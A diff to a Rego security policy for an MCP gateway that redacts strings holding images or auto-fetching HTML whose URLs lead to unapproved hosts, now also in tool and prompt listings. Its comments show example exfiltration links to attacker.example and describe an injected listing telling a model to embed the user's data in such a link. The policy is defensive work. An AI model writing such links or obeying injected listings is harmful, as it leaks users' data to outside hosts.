@@ -7,9 +7,10 @@
 # A client that renders Markdown or HTML fetches an image as soon as it shows it, without a
 # click: a result holding ![x](https://attacker.example/?q=SECRET) sends the secret out the
 # moment it is shown, and a model talked into writing such a link does the same. Every string of
-# an answer (the texts redaction scans) that holds an image, an auto-fetching HTML element or a
-# style loading a URL is redacted whole when a URL in it leads to a host not in `hosts`: the policy can only
-# replace whole strings. Texts without an image keep their links, whatever the hosts; relative
+# an answer (the texts redaction scans) and of a listing (tools/list, ..., initialize: see
+# lib/listings.rego) that holds an image, an auto-fetching HTML element or a style loading a URL
+# is redacted whole when a URL in it leads to a host not in `hosts`: the policy can only replace
+# whole strings. Texts without an image keep their links, whatever the hosts; relative
 # and data: URLs fetch nothing from another host. A text with an image is judged by all its
 # absolute URLs, not only the image's: Markdown lets an image's alt text nest brackets and take
 # its URL from a reference defined anywhere in the text, which patterns cannot follow.
@@ -17,6 +18,7 @@ package mcp.lib.images
 
 import rego.v1
 
+import data.mcp.lib.listings
 import data.mcp.lib.redaction
 import data.mcp.lib.settings
 import data.mcp.lib.urls
@@ -45,9 +47,47 @@ redactions contains path if {
 	enabled
 	some [path, text] in redaction.texts
 	is_string(text)
+	fetches(text)
+}
+
+# Listings (tool, prompt and resource descriptions, a server's instructions) reach the model too:
+# one telling it to answer with ![x](https://attacker.example/?q=<the user's data>) leaks as a
+# result does. Most hold no image: their JSON text rules them out before any string is looked
+# at, first by what every marker starts with (json.marshal writes `<` as `\u003c`, as Go does;
+# a `<` as such is looked for too), then by a pattern that matches the JSON text of every string
+# `fetching` matches (blanks and quotes escaped there).
+redactions contains path if {
+	listed_fetching
+	walk(input.result, [path, value])
+	is_string(value)
+	fetches(value)
+}
+
+# A key cannot be redacted on its own: an object with such a key is, whole.
+redactions contains path if {
+	listed_fetching
+	walk(input.result, [path, value])
+	is_object(value)
+	some key, _ in value
+	is_string(key)
+	fetches(key)
+}
+
+fetches(text) if {
 	regex.match(fetching, text)
 	leaks(text)
 }
+
+# Patterns, not `contains`: the runtime scans a long text with one pattern of a few literals
+# faster than with one `contains` per literal.
+listed_fetching if {
+	enabled
+	text := listings.text
+	regex.match(`!\[|<|\\u003c`, text)
+	regex.match(fetching_in_json, text)
+}
+
+fetching_in_json := `!\[|(?:<|\\u003c)(?i:img|image|svg|video|audio|source|picture|iframe|frame|embed|object|input|link|track|script|table|td|th|body|meta|style)[\s\\>]|(?i:srcset|background|poster|style)\s*=`
 
 leaks(text) if {
 	some m in regex.find_all_string_submatch_n(absolute_url, text, -1)
